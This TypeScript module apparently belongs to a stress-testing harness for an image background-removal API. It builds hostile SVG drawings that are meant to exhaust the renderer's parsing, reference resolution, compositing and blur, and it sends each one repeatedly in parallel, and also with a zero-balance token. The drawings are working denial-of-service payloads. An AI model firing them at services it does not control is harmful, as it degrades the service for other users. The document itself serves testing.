import { counted, type Attack, type Target } from './attack';
import { JSON_TYPE, sendRaw } from './raw';

const NAMESPACE = 'xmlns="http://www.w3.org/2000/svg"';

function svg(content: string, root = 'width="512" height="512"'): string {
  return `<svg ${NAMESPACE} ${root}>${content}</svg>`;
}

function many(count: number, element: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => element(index)).join('');
}

const fullRectangles = (count: number, attributes: string) =>
  many(count, () => `<rect width="512" height="512" fill="#f00" ${attributes}/>`);

/** Hostile drawings, and what each was meant to exhaust. */
export const DRAWINGS: Record<string, () => string> = {
  'a root width of 20,000 digits': () => svg('', `width="${'1'.repeat(20_000)}!" height="9"`),
  '40,000 groups with one id': () => svg(many(40_000, () => '<g id="a"/>')),
  '99,000 groups with one id': () => svg(many(99_000, () => '<g id="a"/>')),
  '3,000 targets × 30,000 references': () =>
    svg(many(3_000, () => '<g id="a"/>') + many(30_000, () => '<use href="#a"/>')),
  '2,000 full rectangles': () =>
    svg(fullRectangles(2_000, 'opacity="0.5"'), 'width="4096" height="4096"'),
  '2,000 isolated groups': () =>
    svg(
      many(2_000, () => `<g opacity="0.5">${fullRectangles(1, '')}</g>`),
      'viewBox="0 0 512 512" width="4096" height="4096"',
    ),
  '300 rectangles blurred by CSS': () =>
    svg(
      `<style>rect{filter:blur(40px)}</style>${fullRectangles(300, '')}`,
      'width="2048" height="2048"',
    ),
};

const REMOVE_BACKGROUND = '/v1/images/removeBackground';

function sendDrawing(target: Target, token: string, drawing: string): Promise<string> {
  const url = `data:image/svg+xml;base64,${Buffer.from(drawing).toString('base64')}`;
  return sendRaw(target, {
    path: REMOVE_BACKGROUND,
    token,
    headers: JSON_TYPE,
    body: [JSON.stringify({ image_url: url })],
  });
}

const PARALLEL = 4;
/** How long drawings keep coming: long enough for a median of what the neighbour waits. */
const SUSTAINED_MS = 7_000;
/** Time of a round at least, so that the sender stays below the rate limit. */
const ROUND_MS = 1_000;

function pause(durationMs: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, durationMs));
}

/** Sends a drawing several times at once, again and again; resolves to all answers. */
async function keepSending(target: Target, drawing: string): Promise<string[]> {
  const answers: string[] = [];
  const endMs = performance.now() + SUSTAINED_MS;
  while (performance.now() < endMs) {
    const round = Array.from({ length: PARALLEL }, () =>
      sendDrawing(target, target.token, drawing),
    );
    const [, ...answered] = await Promise.all([pause(ROUND_MS), ...round]);
    answers.push(...answered);
  }
  return answers;
}

export const svgAttacks: readonly Attack[] = Object.entries(DRAWINGS).flatMap(([name, make]) => [
  {
    name: `SVG of ${name}, ${PARALLEL} at once`,
    run: async (target) => counted(await keepSending(target, make())),
  },
  {
    name: `SVG of ${name}, zero balance`,
    run: (target) => sendDrawing(target, target.pennilessToken, make()),
  },
]);
